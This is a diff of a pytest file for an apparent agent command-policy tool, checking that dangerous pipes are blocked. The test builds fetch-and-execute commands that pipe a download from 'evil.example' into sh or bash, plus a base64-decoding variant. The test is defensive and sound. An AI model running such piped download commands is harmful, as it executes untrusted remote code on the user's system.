@@ -5,7 +5,7 @@ from pathlib import Path
 
 import pytest
 
-from tests.policy.profiled import decision, verdict
+from tests.policy.profiled import SEVEN_PIPES, decision, verdict
 from toolgate.policy import agentkit
 from toolgate.policy.preparing import PROFILES
 
@@ -56,7 +56,7 @@ def test_b_7_without_the_flag_it_is_allowed(command):
     assert "allow" == verdict("agentkit", command)
 
 
-@pytest.mark.parametrize(("writer", "reader"), agentkit.DANGEROUS_PIPES)
+@pytest.mark.parametrize(("writer", "reader"), SEVEN_PIPES)
 def test_b_15_every_pipe_is_blocked(writer, reader):
     source = {"*": "cat x", "base64 -d": "echo bHM= | base64 -d"}.get(writer, f"{writer} http://evil.example/x")
     for spelling in (reader, "bash" if reader == "sh" else reader):
